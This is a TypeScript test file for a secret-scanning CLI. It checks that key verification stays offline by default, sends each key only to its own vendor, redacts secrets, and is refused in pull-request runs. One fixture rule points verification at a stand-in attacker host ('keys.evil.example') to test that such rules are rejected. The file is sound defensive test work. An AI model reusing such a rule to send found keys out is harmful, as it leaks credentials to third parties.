import { spawn } from 'node:child_process';
import dns from 'node:dns';
import { readFileSync } from 'node:fs';
import { syncBuiltinESMExports } from 'node:module';
import { Socket } from 'node:net';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { pullRequestSign } from '../../src/cli/pull-request.ts';
import { asker } from '../../src/cli/verification.ts';
import { formats } from '../../src/report/index.ts';
import { expand } from '../../src/ruleset/template.ts';
import { parts } from '../parts.ts';
import { identity, proxy, vendor } from '../sources/vendor/stage.ts';
import { home } from '../world.ts';
import { folder, rollcall } from './stage.ts';

const key = {
  openai: expand('sk-proj-{{word:58}}T3BlbkFJ{{word:58}}', 'openai'),
  anthropic: expand('sk-ant-api03-{{word:93}}AA', 'anthropic'),
  groq: expand('gsk_{{alnum:20}}WGdyb3FY{{alnum:24}}', 'groq'),
};

const tree = {
  '.env': `OPENAI_API_KEY=${key.openai}\nANTHROPIC_API_KEY=${key.anthropic}\nGROQ_API_KEY=${key.groq}\n`,
  'again/.env': `OPENAI_API_KEY=${key.openai}\n`,
};

/** Where a trapped socket leads. */
const nowhere = { HTTPS_PROXY: 'http://127.0.0.1:9' };

function trapped() {
  const traps = [
    vi.spyOn(Socket.prototype, 'connect').mockImplementation(() => {
      throw new Error('trapped');
    }),
    vi.spyOn(dns, 'lookup').mockImplementation(() => {
      throw new Error('trapped');
    }),
    vi.spyOn(dns.promises, 'lookup').mockRejectedValue(new Error('trapped')),
  ];
  syncBuiltinESMExports();
  return () => traps.reduce((sum, trap) => sum + trap.mock.calls.length, 0);
}

afterEach(() => {
  vi.restoreAllMocks();
  syncBuiltinESMExports();
});

describe('without --verify', () => {
  test('no connection is opened and no name is looked up', async () => {
    const calls = trapped();
    const { out, code } = await rollcall(['scan', '--format', 'json'], { cwd: folder(tree), env: nowhere });
    expect([code, calls()]).toEqual([1, 0]);
    expect(out).not.toContain('verified');
  });

  test.each([{}, nowhere])('while with it, the trap closes: %j', async (env) => {
    const calls = trapped();
    const argv = ['scan', '--verify', '--format', 'json'];
    const { out } = await rollcall(argv, { cwd: folder({ '.env': tree['again/.env'] }), env });
    expect(calls()).toBeGreaterThan(0);
    expect(out).toContain('"verified": "unknown"');
  });
});

/** Runs the program itself, as it is installed. */
async function program(argv: readonly string[], cwd: string, env: Readonly<Record<string, string>>) {
  const { PATH = '' } = process.env;
  const child = spawn(process.execPath, [join(home, 'bin/rollcall.js'), ...argv], { cwd, env: { PATH, ...env } });
  const [out, err, code] = await Promise.all([
    text(child.stdout),
    text(child.stderr),
    new Promise<number | null>((resolve) => child.on('close', resolve)),
  ]);
  return { out, err, code };
}

test('each key is shown to its vendor, through the proxy, and seen nowhere else', { timeout: 30_000 }, async () => {
  const hosts = ['api.openai.com', 'api.anthropic.com', 'api.groq.com'];
  const who = await identity(hosts);
  const { port, heard } = await vendor((response, { headers }) => {
    const [status, body] = { 'api.openai.com': [200, ''], 'api.groq.com': [401, 'invalid_api_key'] }[
      headers.host ?? ''
    ] ?? [429, ''];
    response.writeHead(Number(status), { 'x-echo': JSON.stringify(headers) }).end(`${body}${JSON.stringify(headers)}`);
  }, who);
  const way = await proxy(port);
  const certificate = folder({ 'ca.pem': who.cert });
  const cwd = folder(tree);
  const env = {
    HTTPS_PROXY: `http://127.0.0.1:${way.port}`,
    NODE_EXTRA_CA_CERTS: join(certificate, 'ca.pem'),
    ROLLCALL_DEBUG: '1',
    ROLLCALL_VERBOSE: '1',
  };
  const outputs = [...formats.keys()].flatMap((id) => ['-o', `${id}=out.${id}`]);
  const { out, err, code } = await program(['scan', '--verify', '-o', 'table', ...outputs], cwd, env);

  expect(heard.map(({ headers }) => headers.host).toSorted()).toEqual(hosts.toSorted());
  expect(way.heard.map(({ url }) => url).toSorted()).toEqual(hosts.map((host) => `${host}:443`).toSorted());
  for (const { url, headers, body } of heard) {
    const shown = JSON.stringify([url, headers, body]);
    const known = Object.values(key).filter((one) => shown.includes(one));
    expect(known).toEqual([
      { 'api.openai.com': key.openai, 'api.groq.com': key.groq }[headers.host ?? ''] ?? key.anthropic,
    ]);
    expect(`${url}${body}`).not.toContain(known[0]);
  }

  expect(code).toBe(1);
  expect(err).toContain('keys: 1 live, 1 not accepted by the vendor, 1 unknown');
  expect(out.replaceAll(/\s+/g, ' ')).toMatch(/critical RC201 \S+ OpenAI project .*and the vendor says it is live/);
  const file = (id: string) => readFileSync(join(cwd, `out.${id}`), 'utf8');
  for (const id of ['json', 'sarif', 'markdown']) expect(file(id)).toContain('and the vendor does not accept it');
  expect(JSON.parse(file('json')).findings).toMatchObject([
    { severity: 'critical', provider: 'openai' },
    { severity: 'critical', provider: 'anthropic' },
    { severity: 'low', provider: 'groq' },
  ]);
  const seen = [out, err, way.seen(), ...[...formats.keys()].map(file)].join('\n');
  for (const part of Object.values(key).flatMap(parts)) expect(seen).not.toContain(part);
});

describe('--verify is refused', () => {
  const cwd = () => folder(tree);

  test.each([
    [{ GITHUB_EVENT_NAME: 'pull_request' }, 'GITHUB_EVENT_NAME'],
    [{ GITHUB_EVENT_NAME: 'pull_request_target' }, 'GITHUB_EVENT_NAME'],
    [{ GITHUB_EVENT_NAME: 'pull_request_review_comment' }, 'GITHUB_EVENT_NAME'],
    [{ GITHUB_EVENT_NAME: 'merge_group' }, 'GITHUB_EVENT_NAME'],
    [{ CI_MERGE_REQUEST_IID: '12' }, 'CI_MERGE_REQUEST_IID'],
    [{ CI_PIPELINE_SOURCE: 'merge_request_event' }, 'CI_PIPELINE_SOURCE'],
    [{ BITBUCKET_PR_ID: '12' }, 'BITBUCKET_PR_ID'],
    [{ BUILD_REASON: 'PullRequest' }, 'BUILD_REASON'],
    [{ CIRCLE_PULL_REQUEST: 'https://github.com/acme/shop/pull/12' }, 'CIRCLE_PULL_REQUEST'],
    [{ CHANGE_ID: '12' }, 'CHANGE_ID'],
    [{ TRAVIS_PULL_REQUEST: '12' }, 'TRAVIS_PULL_REQUEST'],
    [{ DRONE_PULL_REQUEST: '12' }, 'DRONE_PULL_REQUEST'],
    [{ BUILDKITE_PULL_REQUEST: '12' }, 'BUILDKITE_PULL_REQUEST'],
    [{ CI_PIPELINE_EVENT: 'pull_request' }, 'CI_PIPELINE_EVENT'],
    [{ CODEBUILD_WEBHOOK_EVENT: 'PULL_REQUEST_CREATED' }, 'CODEBUILD_WEBHOOK_EVENT'],
    [{ PULL_REQUEST: 'true' }, 'PULL_REQUEST'],
  ])('in a pull-request run: %j', async (env, sign) => {
    const calls = trapped();
    const { code, out, err } = await rollcall(['scan', '--verify'], { cwd: cwd(), env });
    expect([code, out, calls()]).toEqual([2, '', 0]);
    expect(err).toContain(`--verify is refused on a pull request (${sign} is set)`);
  });

  test('there too where the environment asks for it', async () => {
    const env = { ROLLCALL_VERIFY: '1', GITHUB_EVENT_NAME: 'pull_request' };
    expect((await rollcall(['scan'], { cwd: cwd(), env })).code).toBe(2);
  });

  test.each([
    [{}],
    [{ GITHUB_EVENT_NAME: 'push', GITHUB_HEAD_REF: '' }],
    [{ GITHUB_EVENT_NAME: 'schedule' }],
    [{ TRAVIS_PULL_REQUEST: 'false', BUILDKITE_PULL_REQUEST: 'false', PULL_REQUEST: 'false' }],
    [{ BUILD_REASON: 'IndividualCI', CI_PIPELINE_SOURCE: 'schedule', CI_PIPELINE_EVENT: 'push' }],
  ])('elsewhere not: %j', (env) => {
    expect(pullRequestSign(env)).toBeNull();
  });

  test.each([
    [{ staged: true }, '--staged'],
    [{ since: 'main' }, '--since'],
  ])('together with %j', async (flags, name) => {
    const io = { env: {}, cwd, signal: new AbortController().signal };
    await expect(asker(['.'], { verify: true, ...flags }, io)).rejects.toThrow(`together with ${name}`);
    await expect(asker(['.'], flags, io)).resolves.toBeNull();
  });

  test('where the proxy is of a kind that it does not speak to, whose password is not repeated', async () => {
    const env = { HTTPS_PROXY: 'socks5://me:secret@proxy.acme.example:1080' };
    const { code, err } = await rollcall(['scan', '--verify'], { cwd: cwd(), env });
    expect([code, err]).toEqual([2, expect.stringContaining('the proxy that HTTPS_PROXY names')]);
    expect(err).not.toMatch(/secret|acme/);
  });
});

// To compile all rules takes a moment.
describe('rules that say whom to ask', { timeout: 30_000 }, () => {
  const acme = (verify: string) => `id: acme
name: Acme
docs: https://docs.acme.example
keys:
  - id: acme-key
    name: Acme key
    keyword: acme-
    pattern: 'acme-[a-z0-9]{30}'
    template: 'acme-{{lower:30}}'
    can: ask its models
    revoke: at the vendor
    ${verify}
    examples: { match: ['K={{key}}'], ignore: ['K=acme-{{lower:10}}'] }
examples:
  - { title: nothing, file: a.txt, code: x, uses: [] }
`;
  const asks = acme(
    "verify: { url: 'https://keys.evil.example/', headers: { x: '{{key}}' }, live: [200], dead: [401] }",
  );
  const refusal = (path: string) => expect.stringContaining(`--verify is refused: ${path} is part of what is scanned`);

  test.each([
    [[], 'own'],
    [['.'], './own'],
    [['dir:.'], 'own'],
  ])('are not taken from the scanned tree: scan %j --rules %s', async (targets, path) => {
    const cwd = folder({ ...tree, 'own/providers/acme.yaml': asks });
    const calls = trapped();
    const { code, err } = await rollcall(['scan', ...targets, '--verify', '--rules', path], { cwd });
    expect([code, err, calls()]).toEqual([2, refusal(path), 0]);
  });

  test.each(['frameworks', 'services'])('are not taken from its %s either', async (kind) => {
    const text = kind === 'services' ? asks.replace(/examples:\n.*\n$/, '') : asks;
    const cwd = folder({ 'main.js': '', [`own/${kind}/acme.yaml`]: text });
    const { code, err } = await rollcall(['scan', '--verify', '--rules', 'own'], { cwd });
    expect([code, err]).toEqual([2, refusal('own')]);
  });

  test('are not taken from the repository of which a part is scanned', async () => {
    const cwd = folder({ '.git/HEAD': '', 'own/providers/acme.yaml': asks, 'again/.env': tree['again/.env'] });
    const { code, err } = await rollcall(['scan', 'again', '--verify', '--rules', 'own'], { cwd });
    expect([code, err]).toEqual([2, refusal('own')]);
  });

  test('may stand there where they say nothing of it', async () => {
    const cwd = folder({ 'main.js': '', 'own/providers/acme.yaml': acme('entropy: 3') });
    expect((await rollcall(['scan', '--verify', '--rules', 'own'], { cwd })).code).toBe(0);
  });

  test('may stand elsewhere', async () => {
    const cwd = folder({ 'own/providers/acme.yaml': asks, 'shop/main.js': '' });
    expect((await rollcall(['scan', 'shop', '--verify', '--rules', 'own'], { cwd })).code).toBe(0);
  });
});

test('rollcall scan --help says that keys go to their vendors', async () => {
  const { out } = await rollcall(['scan', '--help']);
  expect(out).toMatch(
    /--verify +ask vendors whether the keys found are live: each key goes to its\s+vendor, over HTTPS/,
  );
});
